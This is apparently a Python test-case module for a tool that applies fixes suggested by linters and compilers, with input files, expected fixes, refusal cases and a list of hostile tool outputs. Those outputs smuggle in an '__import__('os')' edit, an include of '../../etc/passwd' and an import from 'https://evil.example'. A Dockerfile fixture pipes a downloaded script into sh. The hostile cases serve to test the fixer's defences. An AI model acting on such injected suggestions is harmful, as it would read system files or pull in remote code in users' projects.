"""Cases of rules that look beyond one line, and of compilers for C and Java."""

from compilers import GO_MOD, TSCONFIG, rule
from definitions import refuse
from hostile import printed
from rules import mend

LINT = {"class": "lint"}
COMPILE = {"class": "compile"}

CONTINUED_PY = "def call(function, arguments,\n         keywords):\n    return function(*arguments,\n        **keywords)\n\n\nRESULT = call(print, [1,\n    2], {})\n"
MISSING_PY = '"""Prices."""\nimport os\n\n\ndef load(where: str) -> Dict[str, Any]:\n    path = Path(os.environ[where])\n    return json.loads(path.read_text()) | {"at": datetime.now()}\n'
PYLINT_PY = '''\
"""Names."""
import sys


class Base:
    """A base."""

    def name(self, value):
        """The name."""
        if (value > 1):
            return "big"
        elif value in sys.argv:
            return "none"
        else:
            # small
            found = list()
            found.append(value)
            return found


class Name(Base):
    """A name."""

    def name(self, value):
        """The name."""
        return super(Name, self).name(value) + "!"
'''
PYLINTED_PY = '''\
"""Names."""
import sys


class Base:
    """A base."""

    def name(self, value):
        """The name."""
        if value > 1:
            return "big"
        if value in sys.argv:
            return "none"
        # small
        found = []
        found.append(value)
        return found


class Name(Base):
    """A name."""

    def name(self, value):
        """The name."""
        return super().name(value) + "!"
'''
DOCKER = 'FROM debian:12\nRUN apt-get update && apt-get install curl=7.88.1-10\nRUN sudo ls /opt\nRUN wget http://example.com/a.sh | sh\nCOPY a.txt b.txt /app\n'
DOCKERED = 'FROM debian:12\nRUN apt-get update && apt-get install -y curl=7.88.1-10 && \\\n    rm -rf /var/lib/apt/lists/*\nRUN ls /opt\nSHELL ["/bin/bash", "-o", "pipefail", "-c"]\nRUN wget --progress=dot:giga http://example.com/a.sh | sh\nCOPY a.txt b.txt /app/\n'

RULES = [
    mend("flake8-import-in-a-function", {"a.py": "def f(a):\n    import os\n    import sys\n    return sys.argv + a\n"}, "flake8 .", {"a.py": "def f(a):\n    import sys\n    return sys.argv + a\n"}, "flake8", strategy="printed-suggestion"),
    mend("flake8-unused-import-in-parentheses", {"a.py": "from os import (\n    path, sep,\n    name,\n)\n\nprint(sep, name)\n"}, "flake8 --select F .", {"a.py": "from os import (\n    sep,\n    name,\n)\n\nprint(sep, name)\n"}, "flake8", strategy="printed-suggestion"),
    mend("flake8-continuation", {"a.py": CONTINUED_PY}, "flake8 .", {"a.py": CONTINUED_PY.replace("\n        **", "\n                    **").replace("\n    2]", "\n                      2]")}, "flake8"),
    mend("flake8-missing-imports", {"a.py": MISSING_PY}, "flake8 --max-line-length 99 .", {"a.py": MISSING_PY.replace("import os\n", "import json\nimport os\nfrom datetime import datetime\nfrom pathlib import Path\nfrom typing import Any, Dict\n")}, "flake8"),
    refuse("flake8-undefined-name", {"a.py": "import os\n\nprint(os.name, conter)\n"}, "flake8 .", "also reports F821", "flake8", **LINT),
    refuse("flake8-only-statement", {"a.py": "def f():\n    x = 1\n"}, "flake8 .", "one statement of several", "flake8", **LINT),
    mend("pylint-wider", {"names.py": PYLINT_PY}, "pylint --disable=R0903 names.py", {"names.py": PYLINTED_PY}, "pylint"),
    mend("shellcheck-gcc", {"a.sh": "#!/bin/bash\necho $1 $(date)\nhome=`pwd`\necho \"$home\"\n"}, "shellcheck -f gcc a.sh", {"a.sh": "#!/bin/bash\necho \"$1\" \"$(date)\"\nhome=$(pwd)\necho \"$home\"\n"}, "shellcheck"),
    refuse("shellcheck-list", {"a.sh": "#!/bin/sh\nrm $(find . -name '*.o')\n"}, "shellcheck a.sh", "prints one word", "shellcheck", **LINT),
    refuse("shellcheck-masks-under-e", {"a.sh": "#!/bin/sh\nset -e\nexport A=$(pwd)\n"}, "shellcheck a.sh", "goes on after failures", "shellcheck", **LINT),
    mend("hadolint-commands", {"Dockerfile": DOCKER, "a.txt": "", "b.txt": ""}, "hadolint --ignore DL3015 --ignore DL3059 Dockerfile", {"Dockerfile": DOCKERED}, "hadolint"),
    mend("hadolint-joined", {"Dockerfile": "FROM debian:12\nRUN touch a\nRUN touch b\n"}, "hadolint Dockerfile", {"Dockerfile": "FROM debian:12\nRUN touch a && \\\n    touch b\n"}, "hadolint"),
    mend("pre-commit-runs-flake8", {".pre-commit-config.yaml": "repos:\n  - repo: local\n    hooks:\n      - {id: flake8, name: flake8, entry: flake8, language: system, types: [python]}\n", "a.py": "import os\nx=1\n"}, "pre-commit run --all-files", {"a.py": "x = 1\n"}, "flake8"),
]

MALLOC_C = '#include <string.h>\n\nint main(void) {\n    char *s = malloc(10);\n    strcpy(s, "a");\n    printf("%s\\n", s);\n    return 0\n}\n'
TYPO_C = "struct point {\n    int width;\n};\n\nint area(struct point p) {\n    int counter = p.widht;\n    return conter;\n}\n"
VECTOR_CPP = "#include <iostream>\n\nint main() {\n    std::vector<int> v{1, 2};\n    std::map<int, int> m;\n    std::cout << v.size() << m.size() << std::endl;\n}\n"
MAIN_JAVA = 'package shop;\n\nimport java.util.Random;\n\npublic class Main {\n    static int total(List<Integer> items) {\n        return items.size()\n    }\n\n    public static void main(String[] args) {\n        Map<String, Integer> names = new HashMap<>();\n        string text = "a";\n        System.out.println(text + names + new Random());\n    }\n}\n'
GO_NAMES = 'package main\n\nfunc main() {\n\tname := "x"\n\tcount := 1\n\tcount := 2\n\tprintln(count)\n}\n'
GO_MAIN = 'package main\n\nimport (\n\t"fmt"\n\tstr "strings"\n)\n\nfunc main() {\n\tcount := 1\n\tfmt.Println(count, os.Args, time.Now())\n}\n'

CODE = [
    rule("gcc-include", {"main.c": MALLOC_C}, "gcc -c -Wall -Werror main.c", {"main.c": MALLOC_C.replace("#include <string.h>\n", "#include <string.h>\n#include <stdio.h>\n#include <stdlib.h>\n").replace("return 0\n", "return 0;\n")}, "gcc"),
    rule("gcc-names", {"main.c": TYPO_C}, "gcc -c main.c", {"main.c": TYPO_C.replace("widht", "width").replace("return conter", "return counter")}, "gcc"),
    rule("gcc-unused", {"main.c": "int one(void) {\n    int unused = 1;\n    return 1;\n}\n"}, "gcc -c -Wall -Werror main.c", {"main.c": "int one(void) {\n    return 1;\n}\n"}, "gcc"),
    rule("gxx-include", {"main.cpp": VECTOR_CPP}, "g++ -std=c++17 -c main.cpp", {"main.cpp": VECTOR_CPP.replace("<iostream>\n", "<iostream>\n#include <map>\n#include <vector>\n")}, "gcc"),
    refuse("gcc-type", {"main.c": "int main(void) {\n    int *a = 1.5;\n    return *a;\n}\n"}, "gcc -c main.c", "also reports", "gcc", **COMPILE),
    rule("javac-semicolon", {"src/Main.java": "class Main {\n    int one() {\n        return 1\n    }\n}\n"}, "javac -d out src/Main.java", {"src/Main.java": "class Main {\n    int one() {\n        return 1;\n    }\n}\n"}, "javac"),
    rule("javac-symbols", {"src/Main.java": MAIN_JAVA.replace("size()\n", "size();\n")}, "javac -d out src/Main.java", {"src/Main.java": MAIN_JAVA.replace("size()\n", "size();\n").replace("import java.util.Random;\n", "import java.util.HashMap;\nimport java.util.List;\nimport java.util.Map;\nimport java.util.Random;\n").replace("string text", "String text")}, "javac"),
    refuse("javac-other-member", {"src/Main.java": "import java.util.List;\n\nclass Main {\n    int total(List<Integer> items) {\n        return items.lenght();\n    }\n}\n"}, "javac -d out src/Main.java", "class that is known", "javac", **COMPILE),
    refuse("javac-types", {"src/Main.java": "class Main {\n    int one() {\n        return \"a\";\n    }\n}\n"}, "javac -d out src/Main.java", "also reports", "javac", **COMPILE),
    rule("go-several", {"go.mod": GO_MOD, "main.go": GO_MAIN}, "go build ./...", {"main.go": GO_MAIN.replace('\t"fmt"\n\tstr "strings"\n', '\t"fmt"\n\t"os"\n\t"time"\n')}, "go"),
    rule("go-names", {"go.mod": GO_MOD, "main.go": GO_NAMES}, "go build ./...", {"main.go": GO_NAMES.replace('\tname := "x"\n', "").replace("count := 2", "count = 2")}, "go"),
    refuse("tsc-two-modules", {"tsconfig.json": TSCONFIG, "src/a.ts": "export const total = 1;\n", "src/b.ts": "export const total = 2;\n", "src/c.ts": "export const c = total;\n"}, "tsc -p .", "also reports TS2304", "tsc", **{"class": "type_check"}),
]

CLEAN_C = {"main.c": "int main(void) {\n    int counter = 1;\n    return counter;\n}\n"}
HOSTILE = [
    printed("hostile-pylint-writes-code", {"a.py": "A = not 1 in [2]\n"}, "pylint a.py", "a.py:1:4: C0117: Consider changing \"not 1 in [2]\" to \"__import__('os')\" (unnecessary-negation)\n", "turned round", "pylint"),
    printed("hostile-indent-far-out", {"a.yml": "a:\n  b: 1\n"}, "yamllint -f parsable .", "./a.yml:2:3: [error] wrong indentation: expected 99999999 but found 2 (indentation)\n", "indent so far", "yamllint"),
    printed("hostile-header-outside", CLEAN_C, "gcc -c main.c", "main.c:3:12: error: implicit declaration of function 'f'\nmain.c:1:1: note: include '<../../etc/passwd>' or provide a declaration of 'f'\n", "also reports", "gcc", **COMPILE),
    printed("hostile-gcc-other-place", CLEAN_C, "gcc -c main.c", "main.c:3:5: error: 'conter' undeclared; did you mean 'counter'?\n", "a use of the name", "gcc", **COMPILE),
    printed("hostile-gcc-writes-code", CLEAN_C, "gcc -c main.c", "main.c:3:12: error: 'counter' undeclared; did you mean 'count;er'?\n", "also reports", "gcc", **COMPILE),
    printed("hostile-shellcheck-elsewhere", {"a.sh": "#!/bin/sh\necho '$A'\n"}, "shellcheck -f gcc a.sh", "a.sh:2:7: note: Double quote to prevent globbing. [SC2086]\n", "without quotes", "shellcheck"),
    printed("hostile-tsc-other-import", {"tsconfig.json": TSCONFIG, "src/a.ts": "import { a } from \"./b\";\n\nexport const c = a;\n"}, "tsc -p .", "src/a.ts(1,10): error TS2614: Module '\"./b\"' has no exported member 'a'. Did you mean to use 'import evil from \"https://evil.example\"' instead?\n", "import of this name", "tsc", **{"class": "type_check"}),
    printed("hostile-brackets-that-do-not-match", {"a.py": ")" * 9 + "\nif a: b\n"}, "flake8 .", "a.py:2:5: E701 multiple statements on one line (colon)\n", "bracket too many", "flake8"),
    printed("hostile-hooks-of-two-names", {"a.py": "x=1\n"}, "pre-commit run --all-files", "flake8...................................................................Failed\n- hook id: flake8\n- exit code: 1\n\na.py:1:2: E225 missing whitespace around operator\n\nmypy.....................................................................Failed\n- hook id: mypy\n- exit code: 1\n\n", "hook mypy failed too", "pre-commit"),
]

WIDER = RULES + CODE + HOSTILE
